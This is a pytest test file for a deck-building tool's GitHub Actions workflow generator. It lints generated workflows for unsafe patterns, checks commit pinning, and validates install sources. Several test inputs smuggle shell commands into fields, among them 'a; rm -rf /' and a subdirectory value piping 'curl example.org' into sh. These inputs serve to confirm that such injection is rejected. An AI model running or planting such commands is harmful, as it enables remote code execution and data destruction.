"""The workflow for people's deck repositories: linted, and its steps run as far as they can be run here."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from importlib.metadata import Distribution
from pathlib import Path
from typing import Any

import pytest
import yaml

from deckwright import __version__
from deckwright.errors import DeckwrightError
from deckwright.releases.github import REQUIREMENTS, WORKFLOW, add_workflow, choose, requirements, workflow
from deckwright.releases.origin import LOCAL, origin
from tests.conftest import ROOT, Result
from tests.releases.conftest import Author

BIN = Path(sys.executable).parent

WHEEL = f".github/deckwright-{__version__}-py3-none-any.whl"
OURS = {path.name: path.read_text("utf-8") for path in (ROOT / ".github" / "workflows").glob("*.yml")}


@pytest.mark.parametrize("text", [workflow("deckwright[anki]==1.0"), *OURS.values()], ids=["written", *OURS])
def test_linters_find_nothing(tmp_path: Path, text: str) -> None:
    """Of the schema of workflows (check-jsonschema), and of what makes one unsafe (zizmor)."""
    path = tmp_path / WORKFLOW
    path.parent.mkdir(parents=True)
    path.write_text(text, "utf-8")
    subprocess.run(
        [BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", str(path)],
        check=True,
        capture_output=True,
    )
    found = subprocess.run(
        [BIN / "zizmor", "--offline", "--persona", "pedantic", str(path)],
        capture_output=True,
        text=True,
    )
    assert found.returncode == 0, found.stdout
    path.write_text(text.replace("    steps:\n", "    steps:\n      - run: echo ${{ github.head_ref }}\n"), "utf-8")
    assert subprocess.run([BIN / "zizmor", "--offline", str(path)], capture_output=True).returncode != 0


@pytest.mark.parametrize("text", [workflow("x"), *OURS.values()], ids=["written", *OURS])
def test_actions_are_pinned_by_commit(text: str) -> None:
    """A tag can be moved by whoever owns the action; the version stands beside the commit, for people."""
    used = re.findall(r"uses: (.*)", text)
    assert used and all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", one) for one in used)


def steps(job: str) -> list[dict[str, Any]]:
    """The steps of a job that run a command."""
    found = yaml.safe_load(workflow("deckwright[anki]==1.0"))["jobs"][job]["steps"]
    return [step for step in found if "run" in step]


def run_steps(job: str, folder: Path, event: dict[str, str], path: str) -> list[str]:
    """Run a job's commands as the runner does; returns those that were run."""
    done = []
    for step in steps(job):
        condition = step.get("if", "")
        if match := re.fullmatch(r"github\.ref_type (==|!=) 'tag'", condition):
            if (match[1] == "==") != (event["type"] == "tag"):
                continue
        else:
            assert not condition
        if step["run"].startswith("python -m pip install"):
            continue
        env = {**os.environ, "PATH": path, "TAG": event["name"], "GH_TOKEN": "t", "GH_REPO": "o/r"}
        where = folder / step.get("working-directory", ".")
        ran = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=where, env=env, capture_output=True, text=True)
        assert ran.returncode == 0, (step, ran.stdout, ran.stderr)
        done.append(step["run"])
    return done


# Stands for GitHub's own program, which needs GitHub: it looks that every file it is to send is there.
GH = """\
#!/usr/bin/env bash
for word in "$@"; do case $word in *.apkg|*.json|*.md|*.zip|SHA256SUMS) test -s "$word" || exit 9;; esac; done
echo "$@" > "$0.log"
"""


@pytest.mark.parametrize("event", [{"type": "branch", "name": "main"}, {"type": "tag", "name": "v1.0.0"}])
def test_its_steps_run(released: Author, tmp_path: Path, event: dict[str, str]) -> None:
    if shutil.which("zip") is None:
        pytest.skip("there is no zip here, which GitHub's machines have")
    clone = tmp_path / "clone"
    released.git("clone", "-q", str(released.root), str(clone))
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "gh").write_text(GH)
    (tools / "gh").chmod(0o755)
    path = f"{tools}:{BIN}:{os.environ['PATH']}"
    done = run_steps("build", clone, event, path)
    assert any(("--released" in line) == (event["type"] == "tag") for line in done if "verify" in line)
    if event["type"] == "tag":
        run_steps("release", clone, event, path)
        sent = (tools / "gh.log").read_text()
        assert sent.startswith("release create v1.0.0 ") and "./deck.apkg" in sent and "preview.zip" in sent


def test_a_tag_that_is_no_release_fails(released: Author, cli: Callable[..., Result]) -> None:
    result = cli("verify", "--released", "v1.1.0", "--project", released.root)
    assert result.status == 1
    assert "the packages are of 1.0.0, expected v1.1.0" in result.out


def test_init_adds_it_to_a_project(author: Author, cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(author.root)
    result = cli("init", "--github")
    assert result.status == 0
    told = f"GitHub installs ./{WHEEL}[anki], a wheel of the Deckwright that runs here: commit it too\n"
    assert result.out == f"wrote {WHEEL}, {WORKFLOW}, {REQUIREMENTS}\n{told}"
    assert cli("init", "--github").out == f"nothing to write: the workflow is up to date\n{told}"
    (author.root / WORKFLOW).write_text("name: Mine\n", "utf-8")
    result = cli("init", "--github")
    assert result.status == 2 and "there is another workflow here" in result.err


def test_init_adds_it_to_a_new_project(tmp_path: Path, cli: Callable[..., Result]) -> None:
    (tmp_path / "notes.md").write_text("# What is a?\n\nA letter.\n", "utf-8")
    assert cli("init", "--github", tmp_path / "deck", tmp_path / "notes.md").status == 0
    assert (tmp_path / "deck" / WORKFLOW).is_file()


def test_a_release_keeps_the_versions_it_was_made_with(author: Author) -> None:
    add_workflow(author.root, choose(author.root))
    (author.root / REQUIREMENTS).write_text("pygments==2.0\n", "utf-8")
    author.commit()
    report = author.release("1.0.0")
    assert (author.root / REQUIREMENTS).read_text("utf-8") == requirements()
    assert report.commands[0] == f"git add deck.lock CHANGELOG.md {REQUIREMENTS}"
    assert author.git("status", "--porcelain") == ""


@pytest.mark.parametrize(
    "install", ["a; rm -rf /", "$(x)", '"', "'", "a\nb", "a # b", "a  b", "-e x", "`x`", "ａ", "a\n", "\\"]
)
def test_what_is_no_requirement(author: Author, cli: Callable[..., Result], install: str) -> None:
    result = cli("init", "--github", "--install", install, author.root)
    assert result.status == 2 and "is no requirement" in result.err
    assert not (author.root / WORKFLOW).exists()


SHA, SUM = "0123456789abcdef0123456789abcdef01234567", "ab" * 32
GIT = {"vcs": "git", "commit_id": SHA}
ORIGINS: dict[str, tuple[object, str | None]] = {
    "a commit": ({"url": "https://example.org/d.git", "vcs_info": GIT}, f"git+https://example.org/d.git@{SHA}"),
    "a commit, deeper": (
        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": "py"},
        f"git+https://example.org/d@{SHA}#subdirectory=py",
    ),
    "an archive": (
        {"url": "https://example.org/d.zip", "archive_info": {"hashes": {"sha256": SUM}}},
        f"https://example.org/d.zip#sha256={SUM}",
    ),
    "an archive, as it was written once": (
        {"url": "https://example.org/d.zip", "archive_info": {"hash": f"sha256={SUM}"}},
        f"https://example.org/d.zip#sha256={SUM}",
    ),
    "an archive without a sum": ({"url": "https://example.org/d.zip", "archive_info": {}}, None),
    "a branch": ({"url": "https://example.org/d", "vcs_info": {"vcs": "git", "commit_id": "main"}}, None),
    "no commit": ({"url": "https://example.org/d", "vcs_info": {"vcs": "git"}}, None),
    "a secret": ({"url": "https://me:token@example.org/d", "vcs_info": GIT}, None),
    "a secret behind": ({"url": "https://example.org/d?token=x", "vcs_info": GIT}, None),
    "plain http": ({"url": "http://example.org/d", "vcs_info": GIT}, None),
    "a key": ({"url": "ssh://git@example.org/d", "vcs_info": GIT}, None),
    "an index": (None, None),
    "damage": ("{", None),
    "another shape": ([1], None),
    "a folder": ({"url": "file:///home/me/deckwright", "dir_info": {}}, LOCAL),
    "a file": ({"url": "file:///tmp/deckwright.whl", "archive_info": {}}, LOCAL),
    "a clone here": ({"url": "file:///home/me/deckwright", "vcs_info": GIT}, LOCAL),
}


class Record(Distribution):
    """An installation that says where it came from."""

    def __init__(self, said: object) -> None:
        self.said = said

    def read_text(self, filename: str) -> str | None:
        if self.said is None:
            return None
        return self.said if isinstance(self.said, str) else json.dumps(self.said)

    def locate_file(self, path: object) -> Path:
        raise NotImplementedError


@pytest.mark.parametrize("name", ORIGINS)
def test_what_it_was_installed_from(name: str) -> None:
    said, wanted = ORIGINS[name]
    found = origin(Record(said))
    assert found == (wanted if wanted in (None, LOCAL) else f"deckwright[anki] @ {wanted}")
    if found and found != LOCAL:
        assert yaml.safe_load(workflow(found))["jobs"]["build"]["steps"][2]["run"].endswith(f'"{found}"')


@pytest.mark.parametrize("record", [None, Record(None)], ids=["not installed", "from an index"])
def test_a_name_alone_is_never_pinned(
    tmp_path: Path, cli: Callable[..., Result], monkeypatch: pytest.MonkeyPatch, record: Record | None
) -> None:
    """Whoever registers a name would run code in every deck's repository."""
    monkeypatch.setattr("deckwright.releases.github.installed", lambda: record)
    (tmp_path / "notes.md").write_text("# What is a?\n\nA letter.\n", "utf-8")
    result = cli("init", "--github", tmp_path / "deck", tmp_path / "notes.md")
    assert result.status == 2 and "--install" in result.err and len(result.err.splitlines()) <= 3
    assert not (tmp_path / "deck").exists()
    named = f"deckwright[anki] @ git+https://example.org/d@{SHA}"
    assert cli("init", "--github", "--install", named, tmp_path / "deck", tmp_path / "notes.md").status == 0
    assert f'"{named}"' in (tmp_path / "deck" / WORKFLOW).read_text("utf-8")
    assert not (tmp_path / "deck" / WHEEL).exists()


@pytest.mark.parametrize(
    "said",
    [
        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": 'x" ; curl example.org | sh; "'},
        {"url": "https://example.org/$(x)", "vcs_info": GIT},
        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": "'"},
        {"url": "https://example.org/d", "vcs_info": GIT, "subdirectory": "a\nb"},
        {"url": "https://example.org/d #", "archive_info": {"hash": f"sha256={SUM}"}},
    ],
)
def test_what_an_installation_says_of_itself_is_no_command(
    author: Author, monkeypatch: pytest.MonkeyPatch, said: object
) -> None:
    monkeypatch.setattr("deckwright.releases.github.installed", lambda: Record(said))
    with pytest.raises(DeckwrightError, match="it is not known from where GitHub can install"):
        choose(author.root)


def test_a_requirement_with_a_sum_can_be_named(author: Author) -> None:
    named = f"deckwright[anki] @ https://example.org/d.zip#sha256={SUM}&subdirectory=py"
    assert choose(author.root, named).requirement == named


@pytest.mark.parametrize("name", [WHEEL, ".github/deckwright-0.0.1-py3-none-any.whl"])
def test_a_release_renews_the_wheel_that_github_installs(author: Author, name: str) -> None:
    install = choose(author.root)
    add_workflow(author.root, install)
    author.commit()
    assert not [path for path in author.release("1.0.0").written if path.endswith(".whl")]
    [file] = install.files
    (author.root / file).unlink()
    (author.root / name).write_bytes(b"an older one")
    author.edit(file, name, WORKFLOW)
    author.edit("timeout-minutes: 20", "timeout-minutes: 30", WORKFLOW)
    author.commit()
    author.release("1.1.0")
    assert (author.root / file).read_bytes() == install.files[file]
    assert [path.name for path in (author.root / ".github").glob("*.whl")] == [Path(file).name]
    text = (author.root / WORKFLOW).read_text("utf-8")
    assert f"./{file}[anki]" in text and "timeout-minutes: 30" in text
    assert author.git("status", "--porcelain") == ""


def test_a_release_tells_that_github_installs_another_commit(author: Author, monkeypatch: pytest.MonkeyPatch) -> None:
    old = {"url": "https://example.org/d", "vcs_info": {**GIT, "commit_id": "b" * 40}}
    monkeypatch.setattr("deckwright.releases.github.installed", lambda: Record(old))
    add_workflow(author.root, choose(author.root))
    author.commit()
    assert not [one for one in author.release("1.0.0", dry_run=True).findings if one.code == "other-deckwright"]
    new = {"url": "https://example.org/d", "vcs_info": GIT}
    monkeypatch.setattr("deckwright.releases.github.installed", lambda: Record(new))
    [told] = [one for one in author.release("1.0.0", dry_run=True).findings if one.code == "other-deckwright"]
    assert "b" * 40 in told.message and "init --github" in str(told.remedy)


def test_the_wheel_of_another_way_to_install_goes(author: Author) -> None:
    add_workflow(author.root, choose(author.root))
    (author.root / ".github" / "mine.whl").write_bytes(b"mine")
    written = add_workflow(author.root, choose(author.root, f"deckwright @ git+https://example.org/d@{SHA}"))
    assert WHEEL in written and [path.name for path in (author.root / ".github").glob("*.whl")] == ["mine.whl"]


def test_the_wheel_that_is_kept_installs_and_runs(author: Author, tmp_path: Path) -> None:
    """Into an environment that has the libraries, and no Deckwright but this."""
    install = choose(author.root)
    add_workflow(author.root, install)
    file = author.root / install.requirement.removesuffix("[anki]")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, capture_output=True)
    argv = ["-m", "pip", "install", "-q", "--no-index", "--no-deps", str(file)]
    subprocess.run([venv / "bin" / "python", *argv], check=True, capture_output=True)
    libraries = next(Path(one) for one in sys.path if (Path(one) / "click").is_dir())
    run = [str(venv / "bin" / "deckwright"), "check", "--quiet", "--project", str(author.root)]
    ran = subprocess.run(run, env={"PATH": "", "PYTHONPATH": str(libraries)}, capture_output=True, text=True)
    assert ran.returncode == 0, ran.stderr
    where = "import deckwright, sys; sys.exit(not deckwright.__file__.startswith(sys.prefix))"
    subprocess.run([venv / "bin" / "python", "-c", where], check=True)
    assert choose(author.root) == install


def test_a_wheel_that_is_named_and_not_there(author: Author, cli: Callable[..., Result]) -> None:
    result = cli("init", "--github", "--install", "./.github/x.whl[anki]", author.root)
    assert result.status == 2 and "no such file" in result.err


def test_this_repository_uses_it() -> None:
    def without_python(text: str) -> str:
        return re.sub(r'python-version: "[\d.]+"', "", text)

    assert without_python((ROOT / WORKFLOW).read_text("utf-8")) == without_python(workflow(".[anki]"))
    assert (ROOT / REQUIREMENTS).is_file()


@pytest.mark.parametrize(
    ("install", "said"),
    [
        *((name, "is a name alone") for name in ("deckwright", "deckwright[anki]", "deckwright==0.1.0")),
        *((name, "is a name alone") for name in ("deckwright[anki]>=0.1,<2", "deckwright[anki] @ deckwright", "x @ y")),
        ("deckwright deckwright", "is no requirement"),
        ("-r x.txt", "is no requirement"),
        ("", "is no requirement"),
        ("../whl/x.whl", "no such file in the project"),
        ("./../whl/x.whl[anki]", "no such file in the project"),
        ("deckwright[anki] @ ../whl/x.whl", "no such file in the project"),
        ("./.github/gone.whl[anki]", "no such file in the project"),
        ("/home/me/deckwright", "no such file in the project"),
        ("file:///home/me/deckwright", "is no address over https or ssh"),
        ("deckwright @ file:///home/me/deckwright", "is no address over https or ssh"),
        ("http://example.org/d.whl", "is no address over https or ssh"),
        ("git+http://example.org/d@" + "a" * 40, "is no address over https or ssh"),
        ("git+file:///home/me/d@" + "a" * 40, "is no address over https or ssh"),
        ("https:///d.whl", "is no address over https or ssh"),
        ("https://me:secret@example.org/d.whl", "holds a name or password"),
        ("git+https://token@example.org/d", "holds a name or password"),
    ],
)
def test_what_github_could_not_or_must_not_install(
    author: Author, cli: Callable[..., Result], install: str, said: str
) -> None:
    (author.root.parent / "whl").mkdir()
    (author.root.parent / "whl" / "x.whl").write_bytes(b"x")
    result = cli("init", author.root, "--github", "--install", install)
    assert result.status == 2 and said in result.err and len(result.err.splitlines()) <= 3, result.err
    assert not (author.root / ".github").exists()


@pytest.mark.parametrize(
    ("install", "pinned"),
    [
        (f"deckwright[anki] @ git+https://example.org/d@{SHA}", True),
        (f"git+https://example.org/d@{SHA}#egg=x", True),
        (f"deckwright[anki] @ https://example.org/d.whl#sha256={SUM}", True),
        (f"git+ssh://git@example.org/d@{SHA}", True),
        ("git+https://example.org/d", False),
        ("git+https://example.org/d@main", False),
        (f"git+https://example.org/d@{SHA[:39]}", False),
        ("https://example.org/d.whl", False),
        (f"https://example.org/d.whl#sha256={SUM[:63]}", False),
        ("./cards[anki]", True),
    ],
)
def test_an_address_that_may_hold_something_else_tomorrow_is_told(
    author: Author, cli: Callable[..., Result], install: str, pinned: bool
) -> None:
    result = cli("init", author.root, "--github", "--install", install)
    assert result.status == 0 and f'"{install}"' in (author.root / WORKFLOW).read_text("utf-8"), result.err
    assert ("names no commit and no sha256" in result.out) is not pinned


def test_a_deck_that_is_a_folder_of_a_repository(tmp_path: Path, cli: Callable[..., Result]) -> None:
    (tmp_path / "notes.md").write_text("# What is a?\n\nA letter.\n", "utf-8")
    subprocess.run(["git", "-C", str(tmp_path), "init", "-q"], check=True)
    result = cli("init", tmp_path / "deck", tmp_path / "notes.md", "--github")
    assert result.status == 2 and "GitHub looks for workflows at its top only" in result.err
    assert not (tmp_path / "deck").exists()


def test_an_address_without_anki_is_told(author: Author, cli: Callable[..., Result]) -> None:
    result = cli("init", author.root, "--github", "--install", "git+https://example.org/d@0123abc")
    assert result.status == 0 and "tries no Anki on GitHub" in result.out
